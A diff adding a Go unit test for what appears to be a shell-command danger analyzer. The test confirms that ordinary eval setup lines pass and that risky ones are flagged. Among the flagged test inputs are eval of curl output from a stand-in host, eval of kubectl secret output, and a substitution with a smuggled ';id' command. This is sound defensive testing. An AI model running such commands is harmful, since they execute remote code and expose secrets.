@@ -74,3 +74,20 @@ func TestCodeFacts(t *testing.T) {
 		}
 	}
 }
+
+// TestShellSetupEval checks eval "$(TOOL …)" read through the entries'
+// Code.ShellSetup: environment setup passes, any other substitution is
+// code known only at run time.
+func TestShellSetupEval(t *testing.T) {
+	for _, cmd := range []string{`eval "$(pyenv init -)"`, `eval "$(ssh-agent -s)"`, `eval "$(/usr/local/bin/starship init bash)"`, `eval "$(kubectl completion bash)"`,
+		`eval "$(oc completion zsh)"`, `eval "$(pip3 completion --bash)"`, `eval "$(mise activate bash)"`, `eval "$(direnv hook zsh)"`} {
+		if an := Analyze(cmd, corpusOptions); an.Dangerous() {
+			t.Errorf("%q: flagged %v", cmd, an.Findings)
+		}
+	}
+	for _, cmd := range []string{`eval "$(kubectl get secret x)"`, `eval "$(docker run img)"`, `eval "$(nix print-dev-env)"`, `eval "$(pyenv init -; id)"`, `eval "$(curl -s x.example)"`} {
+		if an := Analyze(cmd, corpusOptions); !an.Dangerous() {
+			t.Errorf("%q: not flagged", cmd)
+		}
+	}
+}
